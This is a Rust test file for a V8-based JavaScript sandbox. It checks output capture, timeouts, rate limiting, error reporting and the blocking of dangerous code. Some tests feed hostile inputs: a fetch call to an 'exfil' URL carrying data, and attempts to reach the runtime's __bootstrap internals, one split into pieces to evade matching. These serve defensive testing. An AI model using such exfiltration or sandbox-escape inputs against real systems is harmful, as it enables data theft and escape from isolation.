//! End-to-end runs against real V8 realms

use assert_matches::assert_matches;
use chrono::Utc;
use coderealm_sandbox::{
    BlockedCategory, ExecutionRequest, FailureReason, SandboxConfig, SandboxError,
    SupervisorState, V8RealmFactory,
};
use coderealm_tests::{isolated_supervisor, setup_test_logging, CountingFactory};
use std::sync::Arc;
use std::time::{Duration, Instant};

fn v8_factory(config: &SandboxConfig) -> CountingFactory<V8RealmFactory> {
    CountingFactory::new(V8RealmFactory::new(config.realm.clone()))
}

#[tokio::test]
async fn test_console_output_reaches_outcome() {
    setup_test_logging();
    let config = SandboxConfig::default();
    let factory = v8_factory(&config);
    let counts = factory.counts();
    let supervisor = isolated_supervisor(config, Arc::new(factory));

    let outcome = supervisor
        .execute(ExecutionRequest::new(r#"console.log("hi")"#).with_timeout_ms(1000))
        .await
        .unwrap();

    assert_eq!(outcome.output, "hi\n");
    assert_eq!(outcome.error, None);
    assert_eq!(supervisor.state(), SupervisorState::Completed);
    assert_eq!(counts.created(), 1);
    assert_eq!(counts.destroyed(), 1);
}

#[tokio::test]
async fn test_network_call_rejected_before_realm_exists() {
    setup_test_logging();
    let config = SandboxConfig::default();
    let factory = v8_factory(&config);
    let counts = factory.counts();
    let supervisor = isolated_supervisor(config, Arc::new(factory));

    let outcome = supervisor
        .execute(ExecutionRequest::new(
            r#"fetch("https://example.com/exfil?d=" + 1).then(r => r.text())"#,
        ))
        .await
        .unwrap();

    assert_matches!(
        outcome.error,
        Some(SandboxError::BlockedPattern {
            category: BlockedCategory::Network,
            ..
        })
    );
    assert_eq!(outcome.output, "");
    assert_eq!(counts.created(), 0);
    assert_eq!(
        supervisor.state(),
        SupervisorState::Failed {
            reason: FailureReason::Rejected
        }
    );
}

#[tokio::test]
async fn test_infinite_loop_times_out_and_realm_is_destroyed() {
    setup_test_logging();
    let config = SandboxConfig::default();
    let factory = v8_factory(&config);
    let counts = factory.counts();
    let supervisor = isolated_supervisor(config, Arc::new(factory));

    let started = Instant::now();
    let outcome = supervisor
        .execute(ExecutionRequest::new("while (true) {}").with_timeout_ms(200))
        .await
        .unwrap();
    let elapsed = started.elapsed();

    assert_matches!(outcome.error, Some(SandboxError::Timeout { timeout_ms: 200 }));
    assert_eq!(supervisor.state(), SupervisorState::TimedOut);
    assert!(elapsed >= Duration::from_millis(200), "elapsed {:?}", elapsed);
    assert!(elapsed < Duration::from_millis(500), "elapsed {:?}", elapsed);
    assert_eq!(counts.destroyed(), 1);

    // The supervisor takes the next request normally
    let outcome = supervisor
        .execute(ExecutionRequest::new("console.log(2 * 21)"))
        .await
        .unwrap();
    assert_eq!(outcome.output, "42\n");
    assert_eq!(counts.created(), 2);
    assert_eq!(counts.destroyed(), 2);
}

#[tokio::test]
async fn test_eleventh_request_in_window_is_rate_limited() {
    setup_test_logging();
    let config = SandboxConfig::default();
    let window = chrono::Duration::from_std(config.rate_limit.window).unwrap();
    let factory = v8_factory(&config);
    let counts = factory.counts();
    let supervisor = isolated_supervisor(config, Arc::new(factory));

    let first_request = Utc::now();
    for i in 0..10 {
        let outcome = supervisor
            .execute(ExecutionRequest::new(format!("console.log({})", i)).with_caller("caller-d"))
            .await
            .unwrap();
        assert_eq!(outcome.output, format!("{}\n", i));
    }
    let last_request = Utc::now();

    let outcome = supervisor
        .execute(ExecutionRequest::new("console.log(10)").with_caller("caller-d"))
        .await
        .unwrap();

    let reset_time = match outcome.error {
        Some(SandboxError::RateLimited { reset_time, limit }) => {
            assert_eq!(limit, 10);
            reset_time
        }
        other => panic!("expected rate limit, got {:?}", other),
    };
    assert!(reset_time >= first_request + window);
    assert!(reset_time <= last_request + window);
    assert_eq!(counts.created(), 10);
    assert_eq!(
        supervisor.state(),
        SupervisorState::Failed {
            reason: FailureReason::RateLimited
        }
    );
}

#[tokio::test]
async fn test_runtime_error_keeps_earlier_output() {
    setup_test_logging();
    let config = SandboxConfig::default();
    let supervisor = isolated_supervisor(config.clone(), Arc::new(v8_factory(&config)));

    let outcome = supervisor
        .execute(ExecutionRequest::new(
            "console.log('before');\nthrow new TypeError('boom');",
        ))
        .await
        .unwrap();

    assert_eq!(outcome.output, "before\n");
    match outcome.error {
        Some(SandboxError::Runtime { error }) => {
            assert!(error.message.contains("boom"), "{}", error.message);
            assert_eq!(error.line, Some(2));
        }
        other => panic!("expected runtime error, got {:?}", other),
    }
}

#[tokio::test]
async fn test_host_capabilities_are_not_reachable() {
    setup_test_logging();
    let config = SandboxConfig::default();
    let supervisor = isolated_supervisor(config.clone(), Arc::new(v8_factory(&config)));

    let outcome = supervisor
        .execute(ExecutionRequest::new(
            "console.log(typeof Deno, typeof WebAssembly, typeof SharedArrayBuffer, \
             typeof globalThis['__boot' + 'strap']);",
        ))
        .await
        .unwrap();

    assert!(outcome.success(), "{:?}", outcome.error);
    assert_eq!(outcome.output, "undefined undefined undefined undefined\n");
}

#[tokio::test]
async fn test_runtime_internals_rejected_before_realm_exists() {
    setup_test_logging();
    let config = SandboxConfig::default();
    let factory = v8_factory(&config);
    let counts = factory.counts();
    let supervisor = isolated_supervisor(config, Arc::new(factory));

    let outcome = supervisor
        .execute(ExecutionRequest::new(
            "__bootstrap.core.print('X\\n'); console.log('ok')",
        ))
        .await
        .unwrap();

    assert_matches!(
        outcome.error,
        Some(SandboxError::BlockedPattern {
            category: BlockedCategory::DynamicEvaluation,
            ..
        })
    );
    assert_eq!(counts.created(), 0);
}
